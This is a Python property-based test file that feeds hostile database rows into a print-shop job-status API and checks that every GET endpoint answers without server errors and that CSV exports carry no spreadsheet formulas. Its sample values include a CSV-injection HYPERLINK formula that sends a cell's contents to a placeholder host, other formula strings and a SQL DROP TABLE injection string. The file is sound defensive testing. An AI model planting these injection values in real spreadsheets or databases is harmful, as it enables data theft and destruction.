"""No 500 from data (issue 19, R20): every read of the API answers, whatever the shop's tables
hold. Hypothesis writes hostile rows into the shop's tables (``jobs`` with any JSON as
``operations``, ``job_operations`` and ``imposition_operations`` with any tracking values,
``operation_codes``, ``"print OS"``, ``scanned_codes``, the mapping and the planner paths:
padded, formula-like, over-long and odd identifiers, JSON of every shape, NULLs), sometimes
processes them, then calls every GET endpoint of the app's own OpenAPI document (so a new
endpoint is covered the day it is added), as JSON and as CSV, with every job id and run id it
knows: no answer may be a 5xx or a broken stream. Schemathesis (test_api) covers hostile
requests; this covers hostile data.
"""

import csv
import io
import itertools
import json
import re
from collections.abc import Iterator
from datetime import datetime
from urllib.parse import quote, unquote

import dagster as dg
import httpx
import pytest
from fastapi import FastAPI
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jobstatus_dagster.api import create_app
from jobstatus_dagster_tests.shop import Shop
from jobstatus_testkit.serving import serve

TOKEN = "t0k"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
CSV = {**AUTH, "Accept": "text/csv"}
_ids = itertools.count(1)

# Postgres text holds any character but NUL (and jsonb no \u0000 either).
text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"))
SPECIAL = st.sampled_from(
    [
        "",
        " ",
        "\t7001_1\n",
        " 7001_1",
        "7001_1 ",
        "7001_1",
        '=HYPERLINK("http://x/?d="&A1,"open")',
        "+1+1",
        "@SUM(1+1)",
        "-1",
        "'; DROP TABLE jobs;--",
        "9" * 3000,
        "7" * 25 + "_1",
        "\u200b7001_1",
        "７001_1",
        "null",
        "{}",
        "Print",
        " Kiss-Cut ",
        "PRINTED",
        "printed",
        "ABORTED",
    ]
)
identifier = st.one_of(
    SPECIAL,
    text.filter(lambda t: len(t) < 60),
    st.from_regex(r"\A[ \t]?[0-9]{1,6}_[0-9]{1,6}[ \t\n]?\Z"),
)
nullable_identifier = st.one_of(st.none(), identifier)
json_value = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**70), 2**70)
    | st.floats(allow_nan=False, allow_infinity=False)
    | text.filter(lambda t: len(t) < 30),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(identifier, inner, max_size=3),
    max_leaves=8,
)
# SQL NULL, or JSON (its own null included).
jsonb = st.one_of(st.none(), json_value.map(json.dumps))
moment = st.one_of(
    st.none(), st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31))
)
bigint = st.one_of(st.none(), st.integers(-(2**63), 2**63 - 1))
marker = st.one_of(st.none(), st.integers(-(10**6), 10**12))
int4 = st.one_of(st.none(), st.integers(-(2**31), 2**31 - 1))
FILE = st.builds(
    lambda version, customer, job, extra: f"FILE_{version}_{customer}_{job}{extra}",
    st.sampled_from(["1", "2", "=3+3", "-1", "10", "x"]),
    st.sampled_from(["Labex", "Other"]),
    st.sampled_from(["7001_1", "7001_2", "7002_1"]) | identifier,
    st.sampled_from(["", "_80", " "]),
)


@st.composite
def hostile_rows(draw) -> dict[str, list[dict]]:
    """One batch of rows for each of the shop's tables."""
    imposition = st.one_of(st.sampled_from(["H-I1", "H-I2", " H-I1 "]), identifier)
    operation_id = st.one_of(st.sampled_from(["op001", "op003", " op006", "op999"]), identifier)

    def operation_row() -> st.SearchStrategy[dict]:
        return st.fixed_dictionaries(
            {
                "operation_id": st.one_of(st.none(), operation_id),
                "sequence_order": int4,
                "required": st.one_of(st.none(), st.booleans()),
                "completed_at": moment,
                "completed_by": nullable_identifier,
                "source_id": bigint,
                "status": nullable_identifier,
                "notes": st.one_of(st.none(), text),
            }
        )

    job_op = operation_row().flatmap(
        lambda row: st.fixed_dictionaries(
            {"job_id": nullable_identifier, "version_tag": nullable_identifier}
        ).map(lambda more: {**row, **more})
    )
    imposition_op = operation_row().flatmap(
        lambda row: st.fixed_dictionaries({"imposition_id": st.one_of(st.none(), imposition)}).map(
            lambda more: {**row, **more}
        )
    )
    return {
        "jobs": draw(
            st.lists(st.fixed_dictionaries({"job_id": identifier, "operations": jsonb}), max_size=4)
        ),
        "job_operations": draw(st.lists(job_op, max_size=4)),
        "imposition_operations": draw(st.lists(imposition_op, max_size=3)),
        "operation_codes": draw(
            st.lists(
                st.fixed_dictionaries(
                    {"operation": identifier, "operation_id": st.one_of(st.none(), operation_id)}
                ),
                max_size=2,
            )
        ),
        "imposition_file_mapping": draw(
            st.lists(
                st.fixed_dictionaries(
                    {"imposition_id": imposition, "file_id": st.one_of(FILE, identifier)}
                ),
                max_size=4,
            )
        ),
        "production_planner_paths": draw(
            st.lists(
                st.fixed_dictionaries(
                    {"runlist_id": identifier, "imposition_id": imposition, "path": text}
                ),
                max_size=2,
            )
        ),
        "print_os": draw(
            st.lists(
                st.fixed_dictionaries(
                    {
                        "name": st.one_of(st.none(), imposition),
                        "status": nullable_identifier,
                        "marker": marker,
                        "job_complete_time": moment,
                        "created_at": moment,
                        "copies": int4,
                        "payload": jsonb,
                    }
                ),
                max_size=4,
            )
        ),
        "scanned_codes": draw(
            st.lists(
                st.fixed_dictionaries(
                    {
                        "code_text": nullable_identifier,
                        "scanned_at": moment,
                        "operations": jsonb,
                        "metadata": jsonb,
                    }
                ),
                max_size=4,
            )
        ),
    }


INSERTS = {
    "jobs": (
        "jm",
        "INSERT INTO jobs (job_id, operations) VALUES (:job_id, CAST(:operations AS jsonb))"
        " ON CONFLICT (job_id) DO UPDATE SET operations = excluded.operations",
    ),
    "job_operations": (
        "logs",
        "INSERT INTO job_operations (job_operation_id, job_id, version_tag, operation_id,"
        " sequence_order, required, completed_at, completed_by, source_id, status, notes)"
        " VALUES (:job_operation_id, :job_id, :version_tag, :operation_id, :sequence_order,"
        " :required, :completed_at, :completed_by, :source_id, :status, :notes)",
    ),
    "imposition_operations": (
        "logs",
        "INSERT INTO imposition_operations (imposition_operation_id, imposition_id, operation_id,"
        " sequence_order, required, completed_at, completed_by, source_id, status, notes)"
        " VALUES (:imposition_operation_id, :imposition_id, :operation_id, :sequence_order,"
        " :required, :completed_at, :completed_by, :source_id, :status, :notes)",
    ),
    "operation_codes": (
        "logs",
        "INSERT INTO operation_codes (operation, operation_id) VALUES (:operation, :operation_id)"
        " ON CONFLICT (operation) DO UPDATE SET operation_id = excluded.operation_id",
    ),
    "imposition_file_mapping": (
        "logs",
        "INSERT INTO imposition_file_mapping (imposition_id, file_id)"
        " VALUES (:imposition_id, :file_id)",
    ),
    "production_planner_paths": (
        "logs",
        "INSERT INTO production_planner_paths (runlist_id, imposition_id, path)"
        " VALUES (:runlist_id, :imposition_id, :path)",
    ),
    "print_os": (
        "jm",
        'INSERT INTO "print OS" (name, status, marker, job_complete_time, created_at, copies,'
        " payload) VALUES (:name, :status, :marker, :job_complete_time, :created_at, :copies,"
        " CAST(:payload AS jsonb))",
    ),
    "scanned_codes": (
        "jm",
        "INSERT INTO scanned_codes (code_text, scanned_at, operations, metadata)"
        " VALUES (:code_text, :scanned_at, CAST(:operations AS jsonb), CAST(:metadata AS jsonb))",
    ),
}


@pytest.fixture(scope="module")
def hostile_shop(shop: Shop, instance: dg.DagsterInstance) -> Shop:
    """A job processed the ordinary way, so every table has something sane beside the rest."""
    job = shop.add_job("7001_1")
    shop.add_job_operation(job, "1")
    shop.map_files("H-I1", [f"FILE_1_Labex_{job}"])
    shop.print_event("H-I1", "PRINTED")
    shop.scan(f"{job}_1", ["coating"])
    shop.process(instance, "print_os")
    shop.process(instance, "scanner")
    return shop


@pytest.fixture(scope="module")
def foreign_runs(hostile_shop: Shop, instance: dg.DagsterInstance) -> list[str]:
    """Runs the API did not make: a partition key added in the UI that is no marker range, a
    run without any of our tags, one whose window tag is not a window."""
    job = hostile_shop.definitions().resolve_job_def("process_print_os")
    made = []
    for tags in (
        {"jobstatus/source": "print_os", "dagster/partition": "added in the UI"},
        {"dagster/partition": "=1+1"},
        {},
        {"jobstatus/source": "print_os", "jobstatus/window": "not a window"},
    ):
        run = instance.create_run_for_job(
            job, run_config={}, tags=tags, status=dg.DagsterRunStatus.FAILURE
        )
        made.append(run.run_id)
    return made


@pytest.fixture(scope="module")
def app(hostile_shop: Shop, instance: dg.DagsterInstance) -> FastAPI:
    return create_app(
        hostile_shop.definitions(),
        instance,
        hostile_shop.urls.jobmanager,
        hostile_shop.urls.logs,
        token=TOKEN,
        read_token=TOKEN,
    )


@pytest.fixture(scope="module")
def api(app: FastAPI) -> Iterator[httpx.Client]:
    with serve(app) as url, httpx.Client(base_url=url, timeout=120) as client:
        yield client


def get_routes(app: FastAPI) -> list[tuple[str, list[dict]]]:
    """Every GET of the OpenAPI document with its parameters."""
    return [
        (path, operations["get"].get("parameters", []))
        for path, operations in app.openapi()["paths"].items()
        if "get" in operations
    ]


def query_variants(parameters: list[dict]) -> list[dict]:
    """No parameter; each enum value of each query parameter; the smallest page."""
    variants: list[dict] = [{}]
    for parameter in parameters:
        if parameter["in"] != "query":
            continue
        schema = parameter.get("schema", {})
        options = schema.get("anyOf", [schema])
        for option in options:
            variants += [{parameter["name"]: value} for value in option.get("enum", [])]
        if parameter["name"] == "limit":
            variants.append({"limit": 1})
        if parameter["name"] == "operation":
            variants += [{"operation": "print"}, {"operation": "coating"}]
    return variants


def paths_for(path: str, parameters: list[dict], values: dict[str, list[str]]) -> list[str]:
    names = [p["name"] for p in parameters if p["in"] == "path"]
    unknown = set(names) - set(values)
    assert not unknown, f"{path}: give the property test values for {unknown}"
    filled = []
    for combination in itertools.product(*(values[name] for name in names)):
        concrete = path
        for name, value in zip(names, combination, strict=True):
            concrete = concrete.replace("{" + name + "}", quote(value, safe=""))
        filled.append(concrete)
    return filled


def known_job_ids(shop: Shop) -> list[str]:
    """Every id the reads know, as stored and trimmed: the path pattern refuses most (422)."""
    stored = shop.rows(
        shop.jm,
        "SELECT job_id FROM jobs UNION SELECT job_id FROM job_operation_state"
        " UNION SELECT job_id FROM job_status_updates",
    )
    ids = {row["job_id"] for row in stored}
    ids |= {job.strip() for job in ids}
    ids |= {row["job_id"] for row in shop.rows(shop.logs, "SELECT job_id FROM job_operations")}
    return sorted(i for i in ids if i)


KEYS = {"job_operations": "job_operation_id", "imposition_operations": "imposition_operation_id"}


def insert(shop: Shop, rows: dict[str, list[dict]]) -> None:
    for table, batch in rows.items():
        if not batch:
            continue
        if table in KEYS:  # the primary key is the one thing the shop's schema keeps unique
            batch = [{**row, KEYS[table]: f"hostile-{next(_ids)}"} for row in batch]
        database, statement = INSERTS[table]
        engine = shop.jm if database == "jm" else shop.logs
        shop.execute(engine, statement, batch)


@settings(
    max_examples=12,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)
@given(rows=hostile_rows(), process=st.booleans())
def check_every_read_answers(
    rows: dict[str, list[dict]],
    process: bool,
    shop: Shop,
    instance: dg.DagsterInstance,
    app: FastAPI,
    api: httpx.Client,
    run_ids: list[str],
) -> None:
    insert(shop, rows)
    if process:
        shop.process(instance, "print_os")
        shop.process(instance, "scanner")
    jobs = known_job_ids(shop)
    values = {"job_id": jobs, "run_id": run_ids}
    for path, parameters in get_routes(app):
        for concrete in paths_for(path, parameters, values):
            for params in query_variants(parameters):
                for headers in (AUTH, CSV):
                    read_every_page(api, concrete, params, headers)


def formula(cell: str) -> bool:
    """A cell a spreadsheet would run (OWASP): it begins with = + - @ tab or CR, and is not a
    negative number (the exports write numbers unquoted, a negative count as -5)."""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    return not re.fullmatch(r"-\d+(\.\d+)?([eE][+-]?\d+)?", cell)


def read_every_page(api: httpx.Client, path: str, params: dict, headers: dict) -> None:
    """One answer, then the pages its ``Jobstatus-Next-After`` leads to: each job of the shop
    is the last of a page once (its id then travels in a header)."""
    for _ in range(100):
        answer = api.get(path, params=params, headers=headers)
        answer.read()  # a stream broken halfway raises here
        assert answer.status_code < 500, (path, params, answer.text[:500])
        if answer.status_code != 200 or "csv" not in answer.headers["content-type"]:
            return
        # And no formula reaches a spreadsheet from the shop's data either: cell by cell (a
        # "-" inside a quoted JSON cell is no cell's start), a number may begin with "-".
        formulas = [
            cell for row in csv.reader(io.StringIO(answer.text)) for cell in row if formula(cell)
        ]
        assert not formulas, (path, formulas[:5])
        after = answer.headers.get("jobstatus-next-after")
        if not after or "limit" not in params or unquote(after) == str(params.get("after")):
            return
        params = {**params, "after": unquote(after)}


def test_every_get_endpoint_answers_whatever_the_shops_tables_hold(
    hostile_shop: Shop,
    instance: dg.DagsterInstance,
    app: FastAPI,
    api: httpx.Client,
    foreign_runs: list[str],
) -> None:
    processed = [run.run_id for run in instance.get_runs(limit=3)]
    check_every_read_answers(
        shop=hostile_shop,
        instance=instance,
        app=app,
        api=api,
        run_ids=[*foreign_runs, *processed],
    )


def test_a_run_of_a_partition_key_that_is_no_marker_range_is_followed(
    api: httpx.Client, foreign_runs: list[str]
) -> None:
    """Keys can be added in the UI: the run is still shown, its key as its window."""
    first, formula, bare, odd_window = foreign_runs
    shown = {run_id: api.get(f"/api/runs/{run_id}", headers=AUTH) for run_id in foreign_runs}
    assert {answer.status_code for answer in shown.values()} == {200}
    assert shown[first].json()["window"] == "print_os:added in the UI"
    assert shown[formula].json()["window"] == "?:=1+1"
    assert shown[bare].json()["window"] == "?"
    assert shown[odd_window].json()["window"] == "not a window"
